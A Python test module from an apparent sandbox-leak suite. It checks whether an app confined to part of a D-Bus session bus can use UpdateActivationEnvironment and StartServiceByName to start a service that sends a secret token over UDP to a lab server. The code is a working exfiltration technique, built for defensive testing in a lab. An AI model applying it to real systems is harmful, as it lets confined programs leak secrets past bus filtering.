"""The part of a session's bus that an app was granted, and what it asks for beyond that part."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

from ..attack import Attack, Env, Outcome
from . import _tools
from ._processes import ordinary_user

if TYPE_CHECKING:
    from ..lab.base import Lab

PLACE = "/usr/local/share/dbus-1/services"
PROGRAM_PATH = "/usr/local/lib/nsguard-leaktest-bus.py"
SERVICE = "org.nsguard.Leaktest"
UNIT = "lab-session-bus.service"
BUS = ("org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus")
PROGRAM = """\
import os, socket, sys
with socket.socket(type=socket.SOCK_DGRAM) as udp:
    udp.sendto(("nsguard-leaktest " + os.environ["NSGUARD_TOKEN"]).encode(), (sys.argv[1], int(sys.argv[2])))
sys.exit(1)  # or the bus would wait for it to take its name
"""


def _bus_socket(lab: Lab) -> str:
    uid = lab.client.succeed(f"id -u {ordinary_user(lab)}").strip()
    return f"/run/user/{uid}/bus"


class SessionActivation(Attack):
    """Claim: a bus of which an app was granted a part starts nothing else for it.

    Method: a real session bus on the host; on the one that $DBUS_SESSION_BUS_ADDRESS names, or else the user's own, put
    the token into the environment of what is started (UpdateActivationEnvironment) and have a service started that
    sends it (StartServiceByName).
    Limitations: calls to names that run already are filtered by the same rule and not tried.
    Source: D-Bus specification, message bus messages; xdg-dbus-proxy(1), --filter.
    """

    name = "session-activation"
    families = (0,)
    identities = ("user",)
    alone = True
    timeout = 12.0

    def before(self, lab: Lab) -> None:
        server = f"{lab.addresses.server.v4} {lab.addresses.echo_port}"
        python = lab.client.succeed("readlink -f $(command -v python3)").strip()
        service = f"[D-BUS Service]\nName={SERVICE}\nExec={python} {PROGRAM_PATH} {server}\n"
        lab.client.write_files({f"{PLACE}/{SERVICE}.service": service, PROGRAM_PATH: PROGRAM})
        user = ordinary_user(lab)
        bus = _bus_socket(lab)
        start = (
            f"systemd-run -q --collect --unit={UNIT} --uid={user} --service-type=notify"
            f" --setenv=XDG_DATA_DIRS={os.path.dirname(os.path.dirname(PLACE))}"
        )
        lab.client.succeed(
            f"install -d -o {user} -m 0700 {os.path.dirname(bus)}",
            f"[ -S {bus} ] || {start} dbus-daemon --session --address=unix:path={bus} --nofork --nopidfile",
            f"setpriv --reuid {user} --regid {user} --clear-groups"
            f" busctl --address=unix:path={bus} call {' '.join(BUS)} ReloadConfig",
        )

    def after(self, lab: Lab) -> None:
        lab.client.execute(
            f"systemctl stop {UNIT} 2>/dev/null && rm -f {_bus_socket(lab)}; rm -f {PLACE}/{SERVICE}.service"
        )

    def run(self, env: Env) -> Outcome:
        address = os.environ.get("DBUS_SESSION_BUS_ADDRESS", f"unix:path=/run/user/{os.getuid()}/bus")
        call = ["busctl", f"--address={address}", "--timeout=4", "call", *BUS]
        _tools.run([*call, "UpdateActivationEnvironment", "a{ss}", "1", "NSGUARD_TOKEN", env.token], 5)
        status, output = _tools.run([*call, "StartServiceByName", "su", SERVICE, "0"], 5)
        return Outcome(status == 0, output)
